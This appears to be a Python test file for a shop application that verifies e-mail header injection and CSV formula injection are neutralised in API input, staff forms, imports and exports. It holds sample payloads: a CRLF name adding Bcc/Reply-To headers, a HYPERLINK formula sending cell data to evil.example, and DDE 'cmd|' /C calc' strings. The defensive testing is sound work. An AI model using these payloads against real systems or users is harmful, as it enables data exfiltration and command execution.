"""Data that turns into commands where it lands: header lines in e-mail (a real aiosmtpd server reads
what was sent), formulas in the CSV files people open in a spreadsheet program."""
import base64
import csv
import io
import zipfile
from datetime import timedelta

from notify_servers import SmtpServer, send_at_once, use_smtp
from sqlalchemy import update

from app.api.services import create_client
from app.notify.dispatcher import dispatch
from app.orders.models import Customer, Order, utcnow

EVIL_NAME = "Olena\r\nBcc: victim@evil.example\r\nReply-To: attacker@evil.example\tX"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open")'


def _bearer(client):
    api_client, secret = create_client("Shop", "read:shipments write:shipments")
    basic = base64.b64encode(f"{api_client.client_id}:{secret}".encode()).decode()
    token = client.post("/oauth/token", data={"grant_type": "client_credentials"},
                        headers={"Authorization": f"Basic {basic}"}).get_json()["access_token"]
    return {"Authorization": f"Bearer {token}"}


def _mail_settings(smtp):
    send_at_once()
    use_smtp(smtp.port)


def _assert_one_clean_message(smtp):
    assert dispatch(now=utcnow() + timedelta(seconds=1)).sent >= 1 and smtp.wait_for(1)
    recipients = [rcpt for rcpt, _message in smtp.sink.messages]
    assert recipients == [["olena@example.com"]]
    message = smtp.messages[0]
    assert message["Bcc"] is None and message["Reply-To"] is None
    assert "evil.example" not in str(message["To"].addresses[0].addr_spec)
    assert message["To"].addresses[0].addr_spec == "olena@example.com"
    assert message.defects == [] and message["To"].defects == ()


def test_a_name_with_line_breaks_from_the_api_adds_no_mail_header(app, db, client):
    headers = _bearer(client)
    with SmtpServer() as smtp:
        _mail_settings(smtp)
        response = client.post("/api/orders", headers=headers, json={
            "customer": {"name": EVIL_NAME, "email": "olena@example.com"},
            "items": [{"name": "Сукня", "price": "100.00"}]})
        assert response.status_code == 201, response.get_data(as_text=True)
        stored = db.session.execute(db.select(Customer.name)).scalar_one()
        assert "\r" not in stored and "\n" not in stored and "\t" not in stored  # folded at input
        _assert_one_clean_message(smtp)


def test_a_name_with_line_breaks_from_a_staff_form_or_a_csv_import_is_one_line(app, db, make_user, client, login):
    """The API is not the only way in: the staff form and a CSV import (a quoted cell may hold line breaks)
    fold the name too, so it cannot become a header line later."""
    login(make_user("staff").email)
    assert client.post("/admin/orders/new", data={
        "customer_name": EVIL_NAME, "customer_phone": "+380673334455", "delivery_city": "Одеса",
        "items-0-name": "Футболка", "items-0-quantity": "1", "items-0-price": "450"}).status_code == 302
    quoted = EVIL_NAME.replace('"', '""')
    text = f'order_number,customer_name,item_name,item_price\nCSV-1,"{quoted}",Сукня,100\n'
    assert client.post("/admin/orders/import", data={"file": (io.BytesIO(text.encode()), "orders.csv")},
                       content_type="multipart/form-data").status_code == 200
    people = db.session.execute(db.select(Customer.name, Customer.phone)).all()
    assert len(people) == 2
    for name, phone in people:
        assert name.startswith("Olena Bcc: victim@evil.example") and not any(c in name for c in "\r\n\t")
        assert phone is None or not any(c in phone for c in "\r\n\t")


def test_a_name_stored_with_line_breaks_before_still_adds_no_mail_header(app, db, make_order):
    """Rows written before names were folded (or by any other way in) are made one line on the way out."""
    with SmtpServer() as smtp:
        _mail_settings(smtp)
        person = Customer(name="Olena", email="olena@example.com")
        db.session.add(person)
        db.session.commit()
        db.session.execute(update(Customer).where(Customer.id == person.id).values(name=EVIL_NAME))
        db.session.commit()
        db.session.expire_all()
        make_order(customer=db.session.get(Customer, person.id))
        _assert_one_clean_message(smtp)


def _cells(text):
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def test_every_csv_export_writes_formulas_as_text(app, db, make_user, make_order, login, client):
    user = make_user("customer", email="olena@example.com", name=FORMULA)
    user.customer.name = FORMULA
    user.customer.phone = "+380671234567"
    db.session.commit()
    order = make_order(customer=user.customer, status="delivered", items=[{"name": "@SUM(1+1)", "price": "10.00"}],
                       delivery={"region": "-2+3+cmd|' /C calc'!A0", "city": "Львів"})
    order.note = "+cmd|' /C calc'!A0"
    db.session.commit()

    login(user.email)
    archive = zipfile.ZipFile(io.BytesIO(client.post("/account/privacy/export.csv").data))
    exported = _cells(archive.read("customers.csv").decode("utf-8-sig")) + \
        _cells(archive.read("order_items.csv").decode("utf-8-sig"))
    assert "'" + FORMULA in exported and "'@SUM(1+1)" in exported and "+380671234567" in exported

    client.post("/logout")
    login(make_user("staff").email)
    orders_csv = _cells(client.get("/admin/orders/export.csv").get_data(as_text=True))
    assert "'" + FORMULA in orders_csv and "'@SUM(1+1)" in orders_csv
    assert "'-2+3+cmd|' /C calc'!A0" in orders_csv and "+380671234567" in orders_csv
    assert not [cell for cell in orders_csv if cell.startswith(("=", "+", "-", "@")) and not cell[1:].isdigit()]

    month = db.session.get(Order, order.id).status_changed_at.strftime("%Y-%m")
    monthly = _cells(client.get(f"/admin/analytics/monthly.csv?month={month}").get_data(as_text=True))
    assert "'-2+3+cmd|' /C calc'!A0" in monthly
    assert not [cell for cell in monthly if cell.startswith(("=", "+", "@", "-2"))], monthly
